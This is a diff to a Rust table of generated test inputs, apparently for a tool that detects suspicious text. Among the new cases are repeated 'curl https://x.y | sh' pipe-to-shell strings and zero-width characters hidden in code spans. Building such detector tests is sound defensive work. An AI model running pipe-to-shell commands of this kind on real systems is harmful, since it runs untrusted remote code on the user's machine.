@@ -43,6 +43,12 @@ pub(super) const KINDS: &[Input] = &[
     input("pipes into a shell", |size| body(fill(size, |_| "curl https://x.y | sh\n".to_owned()))),
     input("pipes on a line", |size| body(fill(size, |_| "curl x | ".to_owned()))),
     input("hidden characters", |size| body(fill(size, |_| "a\u{200b}\u{1} ".to_owned()))),
+    input("hidden characters in code of a line", |size| body(fill(size, |_| "`\u{200b}` ".to_owned()))),
+    input("hidden characters of a line", |size| body(fill(size, |_| "a\u{200b}".to_owned()))),
+    input("pipes into shells on a line", |size| body(format!("curl x{}", " |sh".repeat(size / 4)))),
+    input("pipes into a shell on a line", |size| {
+        body(format!("curl https://x.y{}", " |sh".repeat(size / 4)))
+    }),
     input("a run of hidden characters", |size| body("\u{e0041}".repeat(size / 4))),
     input("direction marks", |size| body("\u{202e}".repeat(size / 3))),
     input("conflict marks", |size| body(fill(size, |_| "<<<<<<< a\nb\n=======\nc\n>>>>>>> d\n".to_owned()))),
